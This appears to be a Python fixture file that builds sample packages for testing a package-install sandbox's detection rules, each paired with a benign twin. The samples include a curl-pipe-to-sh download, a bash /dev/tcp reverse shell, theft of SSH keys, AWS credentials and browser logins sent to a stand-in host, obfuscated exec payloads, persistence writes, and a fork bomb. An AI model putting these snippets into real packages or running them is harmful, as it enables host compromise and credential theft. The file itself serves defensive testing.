"""One sample package for each behaviour that a rule names, each with an innocent twin that does something alike."""
import base64
import marshal
import zlib

from dataclasses import dataclass, field


@dataclass
class sample:
    name: str
    kind: str                   # setup: code in setup.py; backend: in a PEP 517 backend; wheel: `files` as they are
    code: str = ""
    files: dict = field(default_factory=dict)  # `{m}` in a name or a script stands for the module's name
    scripts: tuple = ()
    mode: str = "install"
    entrypoint: str | None = None
    verdict: str = "benign"
    rules: frozenset = frozenset()
    ok: bool = True             # whether the last phase succeeds


ALL = []


def setup(name, verdict, rules, code, twin, ok=True, twin_ok=True):
    """A behaviour in setup.py. Whatever the code runs into, the install goes on, as the real ones see to it."""
    ALL.append(sample(f"lz-sample-{name}", "setup", code, verdict=verdict, rules=frozenset(rules.split()), ok=ok))
    if twin is not None:
        ALL.append(sample(f"lz-sample-{name}-twin", "setup", twin, ok=twin_ok))


def importing(name, verdict, rules, code, twin):
    """A behaviour at import, in a wheel."""
    ALL.append(sample(f"lz-sample-{name}", "wheel", files={"{m}/__init__.py": code}, mode="full", verdict=verdict,
                      rules=frozenset(rules.split())))
    ALL.append(sample(f"lz-sample-{name}-twin", "wheel", files={"{m}/__init__.py": twin}, mode="full"))


def executing(name, verdict, rules, code, twin, ok=True):
    """A behaviour of the console script that fits the package's name."""
    def add(package, rules, body, verdict="benign", ok=True):
        body = "def main():\n" + "".join(f"    {line}\n" for line in body.strip().splitlines())
        ALL.append(sample(package, "wheel", files={"{m}/cli.py": body}, scripts=(package + " = {m}.cli:main",),
                          mode="execute", verdict=verdict, rules=frozenset(rules.split()), ok=ok))
    add(f"lz-sample-{name}", rules, code, verdict, ok)
    add(f"lz-sample-{name}-twin", "", twin)


def guarded(code):
    return "try:\n" + "".join(f"    {line}\n" for line in code.strip().splitlines()) + "except Exception:\n    pass\n"


CONNECT = guarded('import socket\nsocket.create_connection(("198.51.100.7", 443), timeout=2)')
PAYLOAD = 'import os\nopen(os.path.expanduser("~/.payload"), "w").write("x")\n'

# --- the network -----------------------------------------------------------------------------------------------------
setup("connect-setup", "suspicious", "network_install", CONNECT,
      'import socket\nassert socket.inet_aton("198.51.100.7")\nsocket.socket().close()\n')
setup("dns-setup", "suspicious", "network_install",
      guarded('import socket\nsocket.getaddrinfo("collect.example", 443)'), "import socket\nsocket.gethostname()\n")
importing("connect-import", "suspicious", "network_import", CONNECT,
          "def fetch():\n    " + CONNECT.replace("\n", "\n    ") + "\n")
setup("metadata-service", "malicious", "metadata_service",
      guarded('import urllib.request\nurllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=2)'),
      "import urllib.request\nurllib.request.Request('http://a.example/')\n")
setup("listen", "suspicious", "listening_socket",
      'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen()\n',
      'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.close()\n')
setup("child-connect", "suspicious", "network_install",
      f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {CONNECT!r}])\n",
      "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'], check=True)\n")
setup("blind-connect", "suspicious", "network_install hook_evasion",
      f"import subprocess, sys\nsubprocess.run([sys.executable, '-I', '-S', '-c', {CONNECT!r}])\n",
      "import subprocess, sys\nsubprocess.run([sys.executable, '-I', '-c', 'pass'])\n")
ALL.append(sample("lz-sample-backend-connect", "backend", CONNECT, verdict="suspicious", rules=frozenset({"network_install"})))
ALL.append(sample("lz-sample-backend-connect-twin", "backend", "import socket\n"))

setup("drop-host", "suspicious", "drop_host network_install",
      guarded('import socket\nsocket.getaddrinfo("a1b2.oast.example", 443)'), "import socket\nsocket.gethostname()\n")
setup("control-socket", "suspicious", "control_socket",
      guarded('import socket\nsocket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")'),
      "import socket\na, b = socket.socketpair()\na.send(b'x')\nb.recv(1)\n")
executing("connect-run", "benign", "network_run", CONNECT, "import socket\nsocket.socket().close()\n")
executing("listen-run", "benign", "listening_socket_run",
          "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8000))\ns.listen()\n",
          "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\n")

# --- programs --------------------------------------------------------------------------------------------------------
setup("curl-sh", "malicious", "download_and_run",
      'import subprocess\nsubprocess.run(["sh", "-c", "curl -s http://198.51.100.7/x.sh | sh"])\n',
      'import subprocess\nsubprocess.run(["cc", "--version"], stdout=subprocess.DEVNULL)\n')
setup("reverse-shell", "malicious", "reverse_shell",
      'import os\nos.system("bash -c \'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\' 2>/dev/null")\n',
      'import subprocess\nsubprocess.run(["uname", "-m"], stdout=subprocess.DEVNULL)\n')
setup("hidden-command", "malicious", "hidden_command",
      "import subprocess, sys\n"
      f"subprocess.run([sys.executable, '-c', \"exec(__import__('base64').b64decode('{base64.b64encode(CONNECT.encode()).decode()}'))\"])\n",
      "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sysconfig; sysconfig.get_paths()'])\n")
setup("subprocess-install", "suspicious", "subprocess_install not_covered",
      "import subprocess\nsubprocess.run(['perl', '-e', '1'])\n", "import subprocess\nsubprocess.run(['cc', '--version'], stdout=-3)\n")
importing("subprocess-import", "suspicious", "subprocess_import",
          "import subprocess\nsubprocess.run(['perl', '-e', '1'])\n", "import subprocess\nsubprocess.run(['uname', '-m'], stdout=-3)\n")
setup("download-tool", "suspicious", "download_tool",
      "import subprocess\nsubprocess.run(['curl', '-s', '-o', 'x', 'http://collect.example/x'])\n",
      "import subprocess\nsubprocess.run(['ld', '--version'], stdout=-3)\n")
setup("terminal", "malicious", "terminal_spawn", guarded("import pty\npty.spawn(['true'])"), "import os\nos.isatty(0)\n")
setup("background", "suspicious", "background_command",
      "import os\nos.system('nohup true > /dev/null 2>&1')\n", "import os\nos.system('true')\n")
setup("environment-dump", "suspicious", "environment_dump",
      "import subprocess\nsubprocess.run(['printenv'], stdout=-3)\n", "import os\ndict(os.environ)\n")
setup("memfd-made", "benign", "memfd_created", "import os\nos.close(os.memfd_create('x'))\n", "import io\nio.BytesIO(b'x')\n")
setup("reconnaissance", "suspicious", "reconnaissance",
      "import subprocess\n"
      "for c in (['whoami'], ['id'], ['hostname'], ['ps'], ['env']):\n    " +
      guarded("subprocess.run(c, stdout=-3)").replace("\n", "\n    ") + "\n",
      'import platform\nplatform.machine()\n')
setup("exec-scratch", "malicious", "exec_from_scratch",
      "import os, shutil, subprocess\n"
      "p = os.path.join(os.environ['HOME'], '.update')\nshutil.copy('/usr/bin/true', p)\nsubprocess.run([p])\n",
      "import subprocess\nsubprocess.run(['true'])\n")
setup("memfd", "malicious", "memfd_exec",
      "import os, subprocess\nfd = os.memfd_create('x', 0)\nos.write(fd, open('/usr/bin/true', 'rb').read())\n" +
      guarded("subprocess.run([f'/proc/self/fd/{fd}'], pass_fds=[fd])"),
      "import io\nio.BytesIO().write(b'x')\n")
setup("daemonise", "suspicious", "daemonise",
      "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
      "        for fd in (0, 1, 2):\n            os.close(fd)\n        time.sleep(600)\n    os._exit(0)\nos.wait()\n",
      "import os\nif os.fork() == 0:\n    os._exit(0)\nos.wait()\n")
setup("kill-parent", "suspicious", "process_kill",
      "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
      "import os, signal, subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\np.send_signal(signal.SIGTERM)\np.wait()\n",
      ok=False)
setup("ptrace", "malicious", "dangerous_symbol process_trace",
      guarded("import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)"),
      "import ctypes\nctypes.CDLL(None).getpid()\n")

# --- files -----------------------------------------------------------------------------------------------------------
HOME = 'import os\nh = os.path.expanduser("~")\n'
for name, path in (("ssh-key", ".ssh/id_rsa"), ("aws-key", ".aws/credentials"), ("netrc", ".netrc")):
    setup(name, "malicious", "credential_read", HOME + guarded(f'open(h + "/{path}").read()'),
          'open("PKG-INFO").read()\nopen("/etc/passwd").read()\n')
setup("browser", "malicious", "browser_or_wallet_read",
      HOME + guarded('open(h + "/.config/google-chrome/Default/Login Data", "rb").read()'),
      HOME + "os.path.exists(h + '/.config')\n")
setup("history", "suspicious", "history_read", HOME + guarded('open(h + "/.bash_history").read()'), HOME)
setup("environ-file", "suspicious", "environment_read", 'open("/proc/self/environ", "rb").read()\n',
      'import os\nos.environ.get("CC")\n')
setup("dotenv", "benign", "dotenv_read", guarded('open(".env").read()'), 'open("PKG-INFO").read()\n')
setup("accounts", "benign", "host_inspection", 'open("/etc/passwd").read()\n', "import getpass\n")
setup("write-outside", "suspicious", "write_outside_install", HOME + 'open(h + "/notes.txt", "w").write("x")\n',
      'open("notes.txt", "w").write("x")\n')
executing("write-outside-run", "benign", "write_outside_run", HOME + 'open(h + "/notes.txt", "w").write("x")\n',
          'import tempfile\ntempfile.TemporaryFile().write(b"x")\n')
executing("rewrite-itself", "suspicious", "installed_code_changed", 'open(__file__, "a").write("# changed\\n")\n',
          "open(__file__).read()\n")
setup("theft", "malicious", "theft credential_read network_install",
      HOME + 'import json, urllib.request\nloot = {"e": dict(os.environ), "k": open(h + "/.ssh/id_rsa").read()}\n' +
      guarded('urllib.request.urlopen("http://collect.example/", json.dumps(loot).encode(), timeout=2)'),
      'import json, os\njson.dumps(dict(os.environ))\n')
setup("bashrc", "malicious", "persistence_write", HOME + 'open(h + "/.bashrc", "a").write("curl x | sh\\n")\n',
      'import tempfile\ntempfile.NamedTemporaryFile().write(b"x")\nopen("built.txt", "w").write("x")\n')
setup("cron", "malicious", "persistence_write", guarded('open("/etc/cron.d/x", "w").write("* * * * * root x\\n")'),
      guarded('open("/etc/crontab.example").read()'))
setup("systemd", "malicious", "persistence_write",
      HOME + 'os.makedirs(h + "/.config/systemd/user", exist_ok=True)\nopen(h + "/.config/systemd/user/x.service", "w").write("[Unit]")\n',
      HOME + 'os.makedirs(h + "/.cache/x", exist_ok=True)\nopen(h + "/.cache/x/y", "w").write("z")\n')
setup("site-packages", "malicious", "persistence_write",
      guarded('open("/usr/lib/python3/dist-packages/pip/__init__.py", "a").write("evil()\\n")') +
      guarded('open("/usr/lib/python3/dist-packages/zz.pth", "w").write("import os\\n")'),
      "import os, sysconfig\nos.listdir(sysconfig.get_paths()['purelib']) if os.path.isdir(sysconfig.get_paths()['purelib']) else None\n")
ALL.append(sample("lz-sample-pth", "wheel", files={"lz_sample.pth": "import os; os.environ['LZ'] = '1'\n"},
                  verdict="suspicious", rules=frozenset({"pth_file"})))
ALL.append(sample("lz-sample-pth-twin", "wheel", files={"{m}/paths.txt": "import os\n"}))

# --- code ------------------------------------------------------------------------------------------------------------
PACKED = base64.b64encode(zlib.compress(CONNECT.encode())).decode()
setup("decoded", "malicious", "decoded_code",
      f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({PACKED!r})))\n",
      f"import base64, zlib\nassert zlib.decompress(base64.b64decode({PACKED!r}))\n"
      "exec(compile(open('version.txt').read(), 'version.txt', 'exec'))\n")
ALL[-1].files["version.txt"] = "__version__ = '1.0'\n"
MARSHALLED = base64.b64encode(marshal.dumps(compile(PAYLOAD, "<x>", "exec"))).decode()
importing("marshal", "suspicious", "decoded_code",
          f"import base64, marshal\nexec(marshal.loads(base64.b64decode({MARSHALLED!r})))\n",
          "import json\njson.loads(json.dumps([1, 2]))\n")
setup("eval-download", "suspicious", "network_install",
      guarded('import urllib.request\nexec(urllib.request.urlopen("http://collect.example/x.py", timeout=2).read())'),
      "assert eval('1 + 1') == 2\n")

setup("network-code", "malicious", "network_code network_install", CONNECT + "exec('x = 1')\n", "exec('x = 1')\n")
setup("misnamed", "suspicious", "misnamed_code",
      "exec(compile('x = 1', '/usr/lib/python3.11/os.py', 'exec'))\n", "exec(compile('x = 1', 'version.py', 'exec'))\n")
setup("library-scratch", "suspicious", "library_from_scratch",
      "import ctypes, glob, shutil, tempfile\np = tempfile.mkdtemp() + '/update.so'\n"
      "shutil.copy(glob.glob('/usr/lib/x86_64-linux-gnu/libm.so*')[0], p)\nctypes.CDLL(p)\n",
      "import ctypes\nctypes.CDLL(None)\n")
setup("dropper", "malicious", "dropper exec_from_scratch network_install",
      CONNECT + "import os, shutil, subprocess\np = os.environ['HOME'] + '/.update'\nshutil.copy('/usr/bin/true', p)\nsubprocess.run([p])\n",
      "import subprocess\nsubprocess.run(['true'])\n")

# --- the witnesses -------------------------------------------------------------------------------------------------------
FORGED = "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
executing("forged-events", "suspicious", "audit_malformed",
          FORGED + "for _ in range(10):\n    s.sendto(b'no event', '/run/lazaret/audit.sock')\n", FORGED + "s.close()\n")

# --- excess: each must end by itself or by a limit, and leave the service serving ---------------------------------------
setup("fork-bomb", "malicious", "pids_exhausted",
      "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
      "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        os._exit(0)\nfor _ in range(8):\n    os.wait()\n",
      ok=False)
setup("disk", "suspicious", "disk_full",
      'with open("big", "wb") as f:\n    while True:\n        f.write(b"x" * (1 << 20))\n',
      'with open("big", "wb") as f:\n    f.write(b"x" * (8 << 20))\n', ok=False)
setup("flood", "inconclusive", "output_flood",
      'import sys\nfor _ in range(200):\n    sys.stderr.write("x" * 65536 + "\\n")\nraise SystemExit(1)\n',
      'print("x" * 1000)\n', ok=False)
setup("sleep", "inconclusive", "timed_out", "import time\ntime.sleep(3600)\n", "import time\ntime.sleep(0.1)\n", ok=False)
setup("memory", "inconclusive", "", "x = []\nwhile True:\n    x.append(bytearray(1 << 24))\n", "x = bytearray(1 << 26)\n", ok=False)
executing("spin", "benign", "cpu_exhausted", "while True:\n    pass\n", "sum(range(100000))\n", ok=False)
executing("hog", "benign", "out_of_memory",
          "import os\npids = []\nfor _ in range(3):\n    pid = os.fork()\n    if pid == 0:\n"
          "        held = bytearray(900 << 20)\n        os._exit(0 if held else 1)\n    pids.append(pid)\n"
          "raise SystemExit(any(os.waitpid(p, 0)[1] for p in pids))\n",
          "import os\nif os.fork() == 0:\n    os._exit(0)\nos.wait()\n", ok=False)
executing("abort", "benign", "crashed", "import os\nos.abort()\n", "raise SystemExit(0)\n", ok=False)
executing("forbidden-call", "malicious", "syscall_denied dangerous_symbol",
          "import ctypes\nctypes.CDLL(None).syscall(246, 0, 0, 0, 0)\n", "import ctypes\nctypes.CDLL(None).getpid()\n", ok=False)
setup("broken", "inconclusive", "", 'raise SystemExit("this release does not build")\n', None, ok=False)

# --- what the index says of them (deploy/mirror/index.py) -----------------------------------------------------------------
ALL.append(sample("lz-sample-yanked", "wheel", rules=frozenset({"yanked_release"})))
ALL.append(sample("lz-sample-undigested", "wheel", rules=frozenset({"digest_missing"})))
ALL.append(sample("lz-sample-yanked-twin", "wheel"))
ALL.append(sample("lz-sample-undigested-twin", "wheel"))
ALL.append(sample("lz-sample-misdigested", "wheel", verdict=None, ok=False))
ALL.append(sample("lz-sample-misdigested-twin", "wheel"))

# --- what the watchers are asked to miss ----------------------------------------------------------------------------------
def asking_gateway(method, target):
    return guarded(f'import http.client\nasked = http.client.HTTPConnection("127.0.0.1", 3141)\n'
                   f'asked.request("{method}", "{target}")\nasked.getresponse().read()')


setup("gateway-abuse", "suspicious", "gateway_abuse", asking_gateway("POST", "/upload"), asking_gateway("GET", "/simple/six/"))
setup("audit-flood", "benign", "audit_truncated",
      'for n in range(40_000):\n    try:\n        open("./" + "x" * 2000 + str(n))\n    except OSError:\n        pass\n',
      'for n in range(200):\n    try:\n        open("./" + "x" * 200 + str(n))\n    except OSError:\n        pass\n')

# --- what the modes run ------------------------------------------------------------------------------------------------
MODULE = {"{m}/__init__.py": "", "{m}/__main__.py": "print('main', __name__)\n", "{m}/run.py": "print('file', __name__)\n",
          "{m}/cli.py": "def main():\n    print('cli')\ndef seven():\n    return 7\nclass deep:\n    main = staticmethod(main)\n"}


def running(name, mode, scripts=(), ok=True, entrypoint=None):
    ALL.append(sample(f"lz-sample-{name}", "wheel", files=dict(MODULE), scripts=scripts, mode=mode, ok=ok, entrypoint=entrypoint))


running("script", "execute", ("lz-sample-script = {m}.cli:main",))
running("script-prefix", "execute", ("lz-sample-script-prefix-tool = {m}.cli:main",))
running("script-int", "execute", ("lz-sample-script-int = {m}.cli:seven",), ok=False)
running("script-none", "execute", ("unrelated = {m}.cli:main",), ok=False)
running("script-attr", "execute", entrypoint="lz_sample_script_attr.cli:deep.main")
running("module", "execute_module")
running("all", "full", ("lz-sample-all = {m}.cli:main", "lz-sample-seven = {m}.cli:seven"))

BACKEND_BODY = '''
import os, zipfile
FILES = {files!r}

def build_wheel(directory, config_settings=None, metadata_directory=None):
    with zipfile.ZipFile(os.path.join(directory, {wheel!r}), "w") as wheel:
        for name, content in FILES.items():
            wheel.writestr(name, content)
        wheel.writestr({info!r} + "/RECORD", "".join(name + ",,\\n" for name in FILES) + {info!r} + "/RECORD,,\\n")
    return {wheel!r}
'''
